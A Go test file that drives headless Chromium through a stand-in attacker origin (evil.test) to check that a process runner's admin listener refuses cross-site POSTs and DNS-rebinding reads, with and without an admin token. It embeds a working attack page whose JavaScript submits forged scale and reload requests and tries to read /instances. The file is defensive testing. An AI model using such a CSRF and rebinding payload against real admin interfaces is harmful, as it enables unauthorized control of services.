package production_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/goangel/angel/production"
)

// attackPage is a page on another origin (evil.test) that tries, in turn:
// opening the status page with the token as the Basic password in a popup
// (when the token is set: the browser then caches the credentials and sends
// them by itself), a form POST scaling to 1, a fetch POST reloading (no
// CORS), and, through a name of its own that resolves to the admin listener
// (DNS rebinding: the page is then same-origin with it), a fetch that reads
// /instances and a fetch POST scaling to 2. It records what it could read.
const attackPage = `<!doctype html><html><body>
<form id="f" method="POST" action="ADMIN/scale?n=1" target="_blank"></form>
<script>
const sleep = ms => new Promise(r => setTimeout(r, ms));
const step = p => Promise.race([p.catch(e => "error " + e), sleep(5000).then(() => "timeout")]);
async function run() {
  document.getElementById("f").submit(); // a top-level navigation in a new tab
  await sleep(1500);
  await step(fetch("ADMIN/reload", {method: "POST", mode: "no-cors", credentials: "include"}));
  const read = await step(fetch("/instances", {credentials: "include"}).then(async r =>
    r.status + " " + (await r.text()).slice(0, 40).replace(/\s+/g, " ")));
  await step(fetch("/scale?n=2", {method: "POST", credentials: "include"}));
  await fetch("/done?read=" + encodeURIComponent(read));
}
run();
</script></body></html>`

// TestAdminRefusesBrowserAttacks drives headless Chromium through a page on
// another origin against a runner's admin listener, without and with a
// token: nothing changes (still 3 instances, no reload), the page reads
// nothing through a rebinding name, and the refusals are logged. The
// browser reaches every origin through a proxy of the test, which serves
// the attacker's page on evil.test and forwards everything else to the
// admin listener with the Host the browser sent (what DNS rebinding does).
func TestAdminRefusesBrowserAttacks(t *testing.T) {
	bin := chromium(t)
	for _, token := range []string{"", "s3cret-admin-token"} {
		name := "no token"
		if token != "" {
			name = "token"
		}
		t.Run(name, func(t *testing.T) {
			var ev eventLog
			args := []string{"-j", "3"}
			if token != "" {
				args = append(args, "--admin-token", token)
			}
			h := startAdmin(t, hello, args, production.WithEventHook(ev.hook))
			adminHost := strings.TrimPrefix(h.admin, "http://")
			_, port, _ := net.SplitHostPort(adminHost)
			page := strings.NewReplacer("ADMINHOST", adminHost, "ADMIN", h.admin, "TOKEN", token).Replace(attackPage)
			proxy := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) {
				pr.Out.URL.Scheme, pr.Out.URL.Host = "http", adminHost
				pr.Out.Host = pr.In.Host
			}}
			ln, err := net.Listen("tcp4", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			done, statusOpened := make(chan string, 1), make(chan struct{}, 1)
			srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch {
				case strings.HasPrefix(r.Host, "evil.test") && r.URL.Path == "/attack.html":
					w.Header().Set("Content-Type", "text/html")
					fmt.Fprint(w, page)
					return
				case strings.HasPrefix(r.Host, "evil.test") && r.URL.Path == "/done":
					select {
					case done <- r.URL.Query().Get("read"):
					default:
					}
					return
				case r.Host == adminHost && r.URL.Path == "/" && r.Header.Get("Authorization") != "":
					defer func() {
						select {
						case statusOpened <- struct{}{}:
						default:
						}
					}()
				case !strings.HasPrefix(r.Host, "evil.test:") && r.Host != adminHost:
					http.Error(w, "this proxy only knows evil.test and the admin listener", http.StatusBadGateway) // chromium's own traffic
					return
				}
				proxy.ServeHTTP(w, r)
			})}
			go srv.Serve(ln)
			defer srv.Close()

			attack := "http://evil.test:" + port + "/attack.html"
			proxyArgs := []string{"--proxy-server=http://" + ln.Addr().String(), "--proxy-bypass-list=<-loopback>"}
			var stop func()
			if token == "" {
				stop, _ = startBrowser(t, bin, append(proxyArgs, "--disable-popup-blocking", attack)...)
			} else {
				// The status page opened the documented way, with the token
				// as the Basic password (the browser keeps the
				// credentials), then the attacker's page in another tab.
				var dir string
				stop, dir = startBrowser(t, bin, append(proxyArgs, "--disable-popup-blocking", "--remote-debugging-port=0", "http://ops:"+token+"@"+adminHost+"/")...)
				select {
				case <-statusOpened:
				case <-time.After(60 * time.Second):
					t.Fatal("the status page was not opened with the token within 60s")
				}
				newTab(t, dir, attack)
			}
			var read string
			select {
			case read = <-done:
			case <-time.After(60 * time.Second):
				t.Fatal("the attack page did not finish within 60s")
			}
			stop()
			if !strings.HasPrefix(read, "421 ") {
				t.Errorf("through a rebinding name the page read /instances: %q, want 421", read)
			}
			if s := h.run.Stats(); s.Wanted != 3 {
				t.Errorf("the page changed the number of instances to %d", s.Wanted)
			}
			if n := ev.count(production.EventReloadStarted); n != 0 {
				t.Errorf("the page started %d reloads", n)
			}
			waitFor(t, 10*time.Second, "the refusals in the log", func() bool {
				log := h.run.Log()
				return strings.Contains(log, "refused a cross-origin POST /scale") && strings.Contains(log, "refused a cross-origin POST /reload") &&
					strings.Contains(log, `refused Host "evil.test:`+port+`" for POST /scale`)
			})
			if token != "" && strings.Contains(h.run.Log(), token) {
				t.Errorf("the log shows the token:\n%s", h.run.Log())
			}
		})
	}
}

// newTab opens url in a new tab of the chromium whose profile is dir,
// through its DevTools HTTP endpoint (the port it wrote to
// DevToolsActivePort).
func newTab(t *testing.T, dir, url string) {
	t.Helper()
	var port string
	waitFor(t, 30*time.Second, "chromium's DevTools port", func() bool {
		b, err := os.ReadFile(filepath.Join(dir, "DevToolsActivePort"))
		port, _, _ = strings.Cut(string(b), "\n")
		return err == nil && port != ""
	})
	req, err := http.NewRequest("PUT", "http://127.0.0.1:"+port+"/json/new?"+url, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("opening a tab: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("opening a tab: %s", resp.Status)
	}
}
